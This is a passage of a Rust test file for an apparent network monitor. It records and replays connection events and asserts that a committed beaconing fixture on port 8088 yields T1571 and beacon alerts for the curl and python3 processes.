        .flat_map(|(_, procs)| procs.iter().map(|p| (p.pid, p.dest.0.clone(), p.dest.1)))
        .collect();
    monitor.wait_until(Duration::from_secs(15), |recs| {
        wanted.iter().all(|(pid, ip, port)| {
            with_descendants(recs, &[*pid])
                .iter()
                .any(|&p| !events_to(recs, p, ip, *port).is_empty())
        })
    });
    let (status, _) = monitor.stop(Duration::from_secs(15));
    assert!(
        status.success(),
        "the monitor exited with {status}; stderr:\n{}",
        monitor.stderr()
    );
    let lines = read_lines(monitor.stdout_path());
    let values: Vec<Value> = lines.iter().map(|l| l.value.clone()).collect();

    // Every event the monitor wrote, replayed once.
    let dir = fixture_dir();
    std::fs::create_dir_all(&dir).unwrap_or_else(|e| panic!("create {}: {e}", dir.display()));
    let recording = dir.join("recording.jsonl");
    let mut body = String::new();
    for l in lines.iter().filter(|l| is_event(&l.value)) {
        body.push_str(&l.text);
        body.push('\n');
    }
    std::fs::write(&recording, &body)
        .unwrap_or_else(|e| panic!("write {}: {e}", recording.display()));
    let replayed = replay(&recording);

    let verdicts: Vec<Verdict> = results
        .iter()
        .map(|(sim, procs)| check_simulation(sim, procs, &lines, &values, &replayed, &ctx.settings))
        .collect();
    let mut failed = Vec::new();
    for (v, (sim, _)) in verdicts.iter().zip(&results) {
        let ok = v.problems.is_empty();
        println!(
            "\n[{}] {} — {}\n{}",
            if ok { "ok" } else { "FAILED" },
            v.name,
            sim.title,
            v.report
        );
        for p in &v.problems {
            println!("  problem: {p}");
        }
        if !ok {
            failed.push(v.name);
        }
    }
    drop(ns);
    // The problems on their own, for `cargo xtask atomic` to repeat in its error (a CI log
    // keeps only the end of the output).
    let problems: String = verdicts
        .iter()
        .flat_map(|v| v.problems.iter().map(move |p| format!("{}: {p}\n", v.name)))
        .collect();
    let problems_file = dir.join("problems.txt");
    std::fs::write(&problems_file, &problems)
        .unwrap_or_else(|e| panic!("write {}: {e}", problems_file.display()));
    assert!(
        failed.is_empty(),
        "simulations failed: {failed:?} (details above; run with --nocapture). Monitor stderr:\n{}",
        monitor.stderr()
    );
}

/// The committed fixture (a good live run of the 8088 beacon test, events only) replays to
/// the alerts the live run raised: T1571 at high and a beacon alert, for curl and for
/// python3. Needs no root.
#[test]
fn committed_beacon_8088_fixture_replays_to_t1571_and_beacon_alerts() {
    let fixture = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/beacon_8088.jsonl");
    let text = std::fs::read_to_string(&fixture)
        .unwrap_or_else(|e| panic!("read {}: {e}", fixture.display()));
    let events = parse_lines(&text, &fixture.display().to_string());
    assert!(
        events.iter().all(is_event),
        "the fixture holds connection events only"
    );
    let alerts = replay(&fixture).unwrap_or_else(|e| panic!("{e}"));
    let mut problems = Vec::new();
    for a in &alerts {
        problems.extend(alert_shape_problems(a));
    }
    for name in ["curl", "python3"] {
        let connections = events
            .iter()
            .filter(|e| str_field(e, "process.name") == Some(name))
            .count() as u64;
        assert!(
            connections >= 3,
            "the fixture has {connections} {name} events"
        );
        let of_name: Vec<&Value> = alerts
            .iter()
            .filter(|a| str_field(a, "process.name") == Some(name))
            .collect();
        if !of_name.iter().any(|a| {
            detector(a) == Some("rule")
                && has_technique(a, "T1571")
                && str_field(a, "monitor.level") == Some("high")
        }) {
            problems.push(format!("{name}: no T1571 high rule alert"));
        }
        if !of_name.iter().any(|a| {
            detector(a) == Some("beacon")
                && u64_field(a, "monitor.beacon.connections").is_some_and(|n| n + 1 >= connections)
        }) {
            problems.push(format!(
                "{name}: no beacon alert covering its {connections} connections"
            ));
        }
    }
    assert!(
        problems.is_empty(),
        "{}\nreplayed alerts:\n{}",
        problems.join("\n"),
        briefs(alerts.iter())
    );
}
